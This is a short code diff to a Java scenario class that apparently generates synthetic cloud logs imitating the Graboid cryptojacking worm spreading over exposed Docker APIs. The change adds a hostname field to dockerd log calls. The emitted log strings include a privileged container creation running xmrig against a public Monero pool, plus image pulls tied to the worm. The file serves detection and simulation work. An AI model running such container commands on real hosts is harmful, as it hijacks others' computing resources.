@@ -29,14 +29,14 @@ public final class Graboid implements Scenario {
         Instant t = start.plusSeconds(1);
         out.accept(new LogLine(LogKind.VPC_FLOW, t, Formats.flow(World.ACCOUNT, host[2], WORM, host[1], 51000 + random.nextInt(1000),
                 2375, 6, 42, 9_800, t, true), ID));
-        out.accept(new LogLine(LogKind.DOCKER, t, Formats.dockerd(t, "debug", "Calling POST /v1.24/images/create?fromImage=pocosow%2Fcentos&tag=7"), ID));
+        out.accept(new LogLine(LogKind.DOCKER, t, Formats.dockerd(t, Formats.ec2Hostname(host[1]), "debug", "Calling POST /v1.24/images/create?fromImage=pocosow%2Fcentos&tag=7"), ID));
         t = t.plusSeconds(20);
-        out.accept(new LogLine(LogKind.DOCKER, t, Formats.dockerd(t, "debug", "Calling POST /v1.24/containers/create"), ID));
-        out.accept(new LogLine(LogKind.DOCKER, t, Formats.dockerd(t, "debug",
+        out.accept(new LogLine(LogKind.DOCKER, t, Formats.dockerd(t, Formats.ec2Hostname(host[1]), "debug", "Calling POST /v1.24/containers/create"), ID));
+        out.accept(new LogLine(LogKind.DOCKER, t, Formats.dockerd(t, Formats.ec2Hostname(host[1]), "debug",
                 "form data: {\"Cmd\":[\"/bin/sh\",\"-c\",\"xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 4AB3x\"],"
                         + "\"Image\":\"gakeaws/nginx:8.9\",\"HostConfig\":{\"Privileged\":true}}"), ID));
         t = t.plusSeconds(2);
-        out.accept(new LogLine(LogKind.DOCKER, t, Formats.dockerd(t, "debug", "Calling POST /v1.24/containers/3f4e5d6c7b8a/start"), ID));
+        out.accept(new LogLine(LogKind.DOCKER, t, Formats.dockerd(t, Formats.ec2Hostname(host[1]), "debug", "Calling POST /v1.24/containers/3f4e5d6c7b8a/start"), ID));
         for (String[] other : World.INSTANCES) {
             if (other == host) {
                 continue;
